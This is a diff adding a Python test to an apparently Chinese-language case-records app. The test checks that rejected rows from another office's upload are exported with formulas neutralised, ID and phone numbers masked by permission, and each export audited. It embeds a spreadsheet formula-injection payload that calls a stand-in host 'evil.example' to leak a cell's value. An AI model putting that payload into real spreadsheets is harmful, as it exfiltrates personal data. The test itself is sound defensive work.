@@ -343,3 +343,67 @@ def test_a_login_or_export_keeps_the_cached_figures_an_import_settings_change_or
     assert after(lambda con: import_bytes(con, csv_bytes([header, row]), "新增.csv", today=EXAMPLE_TODAY))
     assert after(lambda con: settings.write_settings(con, {"overdue_days": 45}, CITY_USER))
     assert after(lambda con: snapshots.create_snapshot(con, "2026Q3", CITY_USER, "", EXAMPLE_TODAY))
+
+
+# ---------------------------------------------------------------- rejected rows of another office's file
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"备注")'
+
+
+def test_rejected_rows_of_another_offices_file_are_masked_inert_and_audited(example_db, downloads):
+    from tests.payloads import formula_cells
+
+    header = [
+        "身份证号",
+        "姓名",
+        "对象类别",
+        "县区",
+        "乡镇",
+        "结对干部",
+        "干部电话",
+        "干部单位",
+        "结对日期",
+        FORMULA_TITLE,
+    ]
+    outside = [pid(911), "外县甲", "孤儿", "西坪县", "西坪镇", "王伟", mobile(811), "市教育局", "2026-10-01", "x"]
+    wrong = [pid(912)[:-1] + "0" if pid(912)[-1] != "0" else pid(912)[:-1] + "1", "错号乙", "孤儿", "东川县", "东川乡",
+             "郭斌", mobile(812), "市教育局", "2026-10-01", "=1+1"]  # fmt: skip
+    good = [pid(913), "新丙", "孤儿", "东川县", "东川乡", "郭斌", mobile(813), "市教育局", "2026-10-01", ""]
+    at = open_page("upload", user="县区测试")
+    at.file_uploader[0].set_value(("东川县补录.csv", csv_bytes([header, outside, wrong, good]), "text/csv"))
+    rerun(at)
+    at.button(key="upload_start").click()
+    rerun(at)
+    own = next(build for name, build in downloads.items() if name.startswith("东川县补录") and "拒收" in name)()
+    # the uploader's own download: his rows as written (full ID numbers to find them), but nothing runs
+    assert formula_cells(own) == []
+    assert FULL_ID.search(export_text("x.xlsx", own)) and FULL_PHONE.search(export_text("x.xlsx", own))
+    name = labels.UPLOAD_HISTORY_FILENAME.format(batch=4, file="东川县补录")
+
+    def history_download(user: str) -> bytes:
+        downloads.clear()
+        at = open_page("upload", user=user)
+        history = table(at, "upload_history")
+        select_row(
+            at, "upload_history", history[labels.UPLOAD_HISTORY_COLUMNS["file_name"]].tolist().index("东川县补录.csv")
+        )
+        return downloads[name]()
+
+    city = history_download(CITY_USER)  # 市级 without the permission to see full identifiers
+    assert formula_cells(city) == []
+    text = export_text(name, city)
+    assert not FULL_ID.search(text) and not FULL_PHONE.search(text), text
+    assert masking.mask_id(outside[0]) in text and masking.mask_phone(outside[6]) in text
+    assert "外*甲" in text and FORMULA_TITLE in text  # names masked; the title is there, as text
+    rows = openpyxl.load_workbook(io.BytesIO(city)).active
+    assert rows["J1"].value == "'" + FORMULA_TITLE and rows["J1"].data_type == "s"
+    full = history_download("市级可查看")  # granted: the rows as written, audited as such
+    assert FULL_ID.search(export_text(name, full)) and formula_cells(full) == []
+    assert FULL_ID.search(export_text(name, history_download("县区测试")))  # the uploader himself
+    with db.session(example_db) as con:
+        records = access.read_audit(con, action="export")
+    by_user = {user: detail for user, detail in zip(records["user_name"], records["detail"], strict=True)}
+    assert by_user[CITY_USER] == labels.AUDIT_DETAIL_EXPORT.format(file=name, masking=labels.AUDIT_DETAIL_EXPORT_MASKED)
+    assert by_user["市级可查看"] == labels.AUDIT_DETAIL_EXPORT.format(
+        file=name, masking=labels.AUDIT_DETAIL_EXPORT_FULL
+    )
